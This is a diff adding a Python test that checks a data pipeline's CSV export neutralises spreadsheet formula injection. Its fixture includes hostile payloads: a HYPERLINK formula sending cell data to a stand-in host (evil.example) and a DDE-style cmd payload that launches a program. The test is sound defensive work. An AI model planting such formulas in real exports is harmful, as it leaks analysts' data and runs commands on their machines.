@@ -3,12 +3,14 @@ and a seed whose outcome rows do not add up (seeds/001). The decisions are writt
 warehouse exists, keyed by the content hash of the files, as an analyst would."""
 from __future__ import annotations
 
+import csv
 import hashlib
 import re
 import shutil
 from decimal import Decimal
 
 import duckdb
+import polars as pl
 import pytest
 from click.testing import CliRunner
 from dagster import SkipReason, build_sensor_context
@@ -266,6 +268,33 @@ def test_a_value_in_a_spelling_no_decimal_holds_is_a_malformed_line_and_the_run_
     notes = [n for n in outcome.summary.notes if " malformed: " in n]
     assert notes[0].startswith("review cells.csv:3 malformed: value '0e99' is not a number") and len(notes) == 9
     assert "review decisions (review_decision): 2 applied, 9 malformed" in status_report(wh)
+
+
+def test_exported_csv_text_never_runs_as_a_formula_and_numbers_stay_numbers(tmp_path):
+    """A review line's free text goes into ogi export's CSV: a quote or reason starting with = + - @
+    would run in the analyst's spreadsheet (OWASP CSV injection); it gets a leading '. Parquet and
+    the numbers (a negative change included) are as stored."""
+    k1 = rid(KIRO_1)
+    hostile = {"quote": '=HYPERLINK("http://evil.example/?"&A1,"行政复议 11")', "reviewer": "@li.wei",
+               "reason": "+1 missed; -cmd|' /C calc'!A0"}
+    review = write(tmp_path / "review", {"cells.csv": CELLS + (
+        f'{k1},fact_review_litigation,review,total,0,11,-4,"{hostile["quote"].replace(chr(34), chr(34) * 2)}",'
+        f'{hostile["reviewer"]},"{hostile["reason"]}"\n')})
+    wh, out = tmp_path / "ogi.duckdb", tmp_path / "out"
+    run_ingest(raw_dir(tmp_path, KIRO_1, KIRO_2), wh, review_dir=review)
+    result = CliRunner().invoke(main, ["export", "--warehouse", str(wh), "--out", str(out),
+                                       "--only", "review_decision", "--only", "v_application_yoy"])
+    assert result.exit_code == 0, result.output
+    with open(out / "review_decision.csv", encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert {k: row[k] for k in hostile} == {k: "'" + v for k, v in hostile.items()}
+    assert (row["page"], row["reviewed_value"], row["written_value"]) == ("'-4", "11.0000", "0.0000")
+    assert row["outcome"] == "applied"
+    exact = pl.read_parquet(out / "review_decision.parquet").row(0, named=True)
+    assert {k: exact[k] for k in hostile} == hostile
+    with open(out / "v_application_yoy.csv", encoding="utf-8", newline="") as fh:
+        changes = [r["change"] for r in csv.DictReader(fh) if r["change"]]
+    assert any(c.startswith("-") for c in changes) and not any(c.startswith("'") for c in changes)
 
 
 def test_a_spreadsheet_export_with_a_bom_or_in_gb18030_reads(tmp_path):
